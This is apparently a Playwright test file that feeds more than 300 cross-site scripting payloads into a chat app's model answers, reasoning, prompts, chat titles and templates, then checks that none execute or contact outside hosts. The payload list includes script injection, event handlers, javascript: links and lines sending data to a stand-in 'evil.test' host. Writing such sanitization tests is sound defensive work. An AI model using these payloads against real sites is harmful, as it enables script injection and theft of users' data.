import { answerOf } from '../../server/test/scriptedLlm';
import { expect, signInByPassword, test } from './fixtures';

const canary = 'window.__xss=1';
const foreign = 'http://evil.test/p?leak=SECRET';
const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter'];
const tags = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'object data=x',
  'marquee',
  'math',
  'style',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
  'blob:',
  'file:///',
  '//evil.test/',
];
const plain = [
  `<script>${canary}</script>`,
  `<script src=${foreign}></script>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<form action=${foreign}><input type=password name=p></form>`,
  `<link rel=stylesheet href=${foreign}>`,
  `<style>@import '${foreign}';body{background:url(${foreign})}</style>`,
  `<div style="background:url(${foreign})">x</div>`,
  `<meta http-equiv=refresh content="0;url=${foreign}">`,
  `<base href=${foreign}>`,
  `<a href="javascript:${canary}">x</a>`,
  `<svg><a xlink:href="javascript:${canary}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${canary}>`,
  `<noscript><p title="</noscript><img src=x onerror=${canary}>">`,
  `<template><script>${canary}</script></template>`,
  `]]><script>${canary}</script>`,
  `--><script>${canary}</script>`,
  `"><img src=x onerror=${canary}>`,
  `'-${canary}-'`,
  `\${${canary}}`,
  `{{constructor.constructor('${canary}')()}}`,
  `&lt;script&gt;${canary}&lt;/script&gt;`,
  `[x]: ${foreign} "y"`,
  `![x][y]\n\n[y]: ${foreign}`,
  `<${foreign}>`,
  `\`\`\`html\n<script>${canary}</script>\n\`\`\``,
];
/** Tags by handlers, links and pictures by schemes, and what fits in neither: more than 300. */
const payloads = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${canary}>`)),
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler.toUpperCase()}="${canary}" x=>`)),
  ...schemes.flatMap((scheme) => [
    `[按](${scheme}${canary})`,
    `[按](<${scheme}${canary}>)`,
    `![图](${scheme}${canary})`,
    `<a href="${scheme}${canary}">按</a>`,
    `<${scheme}${canary}>`,
  ]),
  ...Array.from({ length: 70 }, (_, i) => `![图${i}](http://evil${i}.test/p.png?leak=${i} "题")`),
  ...plain,
];

test('三百多种恶意内容进到回答、思考、提问、引用、标题与模板里：不运行、不取外面的东西', async ({
  withModel: { llm, server, context },
}) => {
  test.setTimeout(240_000);
  expect(payloads.length).toBeGreaterThan(300);
  const asked: string[] = [];
  const page = await context.newPage();
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(server.url) && !url.startsWith('blob:') && !url.startsWith('data:')) asked.push(url);
  });
  page.on('dialog', (dialog) => {
    asked.push('dialog');
    void dialog.dismiss();
  });
  await signInByPassword(page);
  await page.goto('/DeepSeek');
  const all = payloads.join('\n\n');
  llm.next(answerOf(`${all}\n\n结束。`, { reasoning: all, size: 400 }));
  await page.getByRole('textbox', { name: '提问' }).fill(`${all.slice(0, 19_000)}高企`);
  await page.getByRole('textbox', { name: '提问' }).press('Enter');
  const answer = page.getByRole('article', { name: /^助手回答/ }).last();
  await expect(answer).toContainText('结束。', { timeout: 60_000 });
  await page.getByRole('button', { name: /深度思考\.\.\./ }).click();

  await page
    .getByRole('button', { name: /的操作/ })
    .first()
    .click();
  await page.getByRole('menuitem', { name: '改名' }).click();
  await page.getByRole('textbox', { name: '名称' }).fill(`<img src=x onerror=${canary}>`);
  await page.getByRole('button', { name: '保存' }).click();
  await expect(page.getByRole('link', { name: '<img src=x' })).toBeVisible();

  await page.getByRole('button', { name: '常用任务' }).click();
  await page.getByRole('button', { name: '新建模板' }).click();
  await page.getByRole('textbox', { name: '名称' }).fill('<svg onload=x>');
  await page.getByRole('textbox', { name: '内容' }).fill(`![](${foreign}){{<img src=x>}}`);
  await page.getByRole('button', { name: '保存' }).click();
  await page.getByRole('button', { name: '<svg onload=x>' }).click();
  await page.keyboard.press('Escape');

  // The stored copy is drawn by the same hand.
  await page.reload();
  await expect(answer).toContainText('结束。');
  const found = await page.evaluate(() => ({
    ran: '__xss' in window,
    handlers: [...document.querySelectorAll('main *')].flatMap((element) =>
      element.getAttributeNames().filter((name) => /^on/i.test(name)),
    ),
    elements: [
      ...document.querySelectorAll('main :is(script, iframe, object, embed, form, link, base, meta, style)'),
    ].map(({ outerHTML }) => outerHTML.slice(0, 200)),
    schemes: [...document.querySelectorAll('main a')]
      .map((link) => (link as HTMLAnchorElement).protocol)
      .filter((protocol) => !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)),
    pictures: [...document.querySelectorAll('main article img')].length,
  }));
  expect(found).toEqual({ ran: false, handlers: [], elements: [], schemes: [], pictures: 0 });
  expect(asked).toEqual([]);
});
